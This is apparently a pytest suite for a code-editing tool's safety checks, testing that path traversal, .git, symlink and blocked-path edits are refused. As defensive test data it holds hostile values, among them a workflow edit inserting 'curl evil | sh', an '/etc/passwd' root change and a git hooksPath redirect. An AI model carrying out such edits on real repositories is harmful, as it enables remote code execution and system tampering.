from __future__ import annotations

from pathlib import Path

import pytest

from streamfix.fixing.apply import Edit, UnsafeEdit, check_path, is_blocked, plan, write
from tests.unit.fixing.helpers import GOOD_EDIT, SampleRepo, tree_snapshot

BLOCKED = [".github/workflows/", "**/secrets*", "**/migrations/"]


def plan_and_write(root: Path, edit: Edit) -> None:
    write(root, plan(root, [edit], blocked=BLOCKED, max_diff_lines=200), blocked=BLOCKED)


HOSTILE = [
    ("dotdot", Edit("../outside/target.py", "VALUE = 1", "VALUE = 2"), "escapes"),
    ("dotdot-inner", Edit("shop/../../outside/target.py", "VALUE = 1", "VALUE = 2"), "escapes"),
    ("absolute", Edit("/etc/passwd", "root", "toor"), "absolute"),
    ("git-config", Edit(".git/config", "[core]", "[core]\n\thooksPath=/tmp"), ".git"),
    ("git-upper", Edit(".GIT/config", "[core]", "[x]"), ".git"),
    ("symlink-file", Edit("shop/linked.py", "VALUE = 1", "VALUE = 2"), "symbolic link"),
    ("symlink-dir", Edit("vendor/target.py", "VALUE = 1", "VALUE = 2"), "symbolic link"),
    ("workflow", Edit(".github/workflows/deploy.yml", "./deploy.sh", "curl evil | sh"), "blocked"),
    ("secrets", Edit("config/secrets.yaml", 'payment_api_key: ""', "payment_api_key: x"), "blocked"),
    ("migrations", Edit("migrations/0001_init.sql", "SERIAL", "BIGSERIAL"), "blocked"),
    ("missing-file", Edit("shop/nope.py", "a", "b"), "not an existing file"),
    ("backslash", Edit("shop\\pricing.py", "a", "b"), "invalid"),
    ("no-match", Edit("shop/pricing.py", "return total // len(orders)", "x"), "matches 0 times"),
    ("two-matches", Edit("shop/pricing.py", "order", "ORDER"), "expected exactly once"),
    ("empty-search", Edit("shop/pricing.py", "", "x"), "empty search"),
    (
        "syntax",
        Edit("shop/pricing.py", "    return total / len(orders)\n", "    return (total /\n"),
        "compile",
    ),
]


@pytest.mark.parametrize(("edit", "why"), [(e, w) for _, e, w in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_edit_is_refused_and_nothing_is_written(
    sample_repo: SampleRepo, edit: Edit, why: str
) -> None:
    before = tree_snapshot(sample_repo.work.parent, skip=(".git", "remote.git"))
    with pytest.raises(UnsafeEdit) as info:
        plan_and_write(sample_repo.work, edit)
    assert why in str(info.value)
    assert tree_snapshot(sample_repo.work.parent, skip=(".git", "remote.git")) == before


def test_diff_cap(sample_repo: SampleRepo) -> None:
    big = "    return total / len(orders)\n" + "".join(f"    # line {i}\n" for i in range(30))
    edit = Edit("shop/pricing.py", "    return total / len(orders)\n", big)
    with pytest.raises(UnsafeEdit, match="more than the cap of 10"):
        plan(sample_repo.work, [edit], blocked=BLOCKED, max_diff_lines=10)


def test_good_edit_is_planned_then_written(sample_repo: SampleRepo) -> None:
    planned = plan(sample_repo.work, [Edit(**GOOD_EDIT)], blocked=BLOCKED, max_diff_lines=200)
    assert planned.paths == ["shop/pricing.py"]
    assert planned.changed_lines == 2
    assert planned.diff.startswith("--- a/shop/pricing.py\n+++ b/shop/pricing.py\n")
    assert "+    if not orders:\n" in planned.diff
    assert "if not orders" not in (sample_repo.work / "shop/pricing.py").read_text()
    write(sample_repo.work, planned, blocked=BLOCKED)
    assert "if not orders" in (sample_repo.work / "shop/pricing.py").read_text()


def test_symlink_swapped_in_after_planning_is_refused_at_write(
    sample_repo: SampleRepo, tmp_path: Path
) -> None:
    planned = plan(sample_repo.work, [Edit(**GOOD_EDIT)], blocked=BLOCKED, max_diff_lines=200)
    target = sample_repo.work / "shop/pricing.py"
    target.unlink()
    target.symlink_to(sample_repo.outside / "target.py")
    with pytest.raises(UnsafeEdit, match="symbolic link"):
        write(sample_repo.work, planned, blocked=BLOCKED)
    assert (sample_repo.outside / "target.py").read_text() == "VALUE = 1\n"


@pytest.mark.parametrize(
    ("path", "blocked"),
    [
        (".github/workflows/deploy.yml", True),
        (".github/CODEOWNERS", False),
        ("config/secrets.yaml", True),
        ("secrets.env", True),
        ("app/secrets/keys.py", True),
        ("app/db/migrations/0002.py", True),
        ("migrations/env.py", True),
        ("shop/migration_helpers.py", False),
        ("shop/pricing.py", False),
    ],
)
def test_blocked_globs(path: str, blocked: bool) -> None:
    assert (is_blocked(path, BLOCKED) is not None) is blocked


def test_check_path_accepts_dot_segments(sample_repo: SampleRepo) -> None:
    assert check_path(sample_repo.work, "./shop/pricing.py", BLOCKED).name == "pricing.py"


def test_no_generated_path_escapes_or_touches_git(sample_repo: SampleRepo) -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    root = sample_repo.work.resolve()
    parts = st.sampled_from(
        [
            "..",
            ".",
            "",
            ".git",
            ".GIT",
            "shop",
            "linked.py",
            "vendor",
            "target.py",
            "pricing.py",
            "config",
            "secrets.yaml",
            "/",
            "a b",
            "x\0y",
        ]
    )

    @settings(max_examples=400, deadline=None, derandomize=True)
    @given(st.lists(parts, min_size=1, max_size=6), st.booleans())
    def check(segments: list[str], absolute: bool) -> None:
        raw = ("/" if absolute else "") + "/".join(segments)
        try:
            target = check_path(root, raw, BLOCKED)
        except UnsafeEdit:
            return
        assert target.resolve() == target
        assert target.is_relative_to(root)
        assert ".git" not in [p.lower() for p in target.relative_to(root).parts]
        assert is_blocked(target.relative_to(root).as_posix(), BLOCKED) is None
        assert not any(
            (root / Path(*target.relative_to(root).parts[: i + 1])).is_symlink()
            for i in range(len(target.relative_to(root).parts))
        )

    check()


def test_over_long_and_non_unicode_paths_are_refused(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\n")
    for raw in ("a" * 300 + ".py", "b/" * 600 + "a.py", "\udcff.py", "a.py\u202e", "a\x1b[2J.py"):
        with pytest.raises(UnsafeEdit):
            plan(tmp_path, [Edit(raw, "x = 1", "x = 2")], blocked=[], max_diff_lines=10)
    with pytest.raises(UnsafeEdit, match="surrogates"):
        plan(tmp_path, [Edit("a.py", "x = 1", "x = '\udcff'")], blocked=[], max_diff_lines=10)


def test_a_failed_write_leaves_the_file_whole_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import streamfix.fixing.apply as apply_module

    target = tmp_path / "a.py"
    target.write_text("x = 1\n")
    planned = plan(tmp_path, [Edit("a.py", "x = 1", "x = 2")], blocked=[], max_diff_lines=10)

    def failing_replace(src: str, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(apply_module.os, "replace", failing_replace)
    with pytest.raises(UnsafeEdit, match="cannot write"):
        write(tmp_path, planned, blocked=[])
    assert target.read_text() == "x = 1\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.py"]
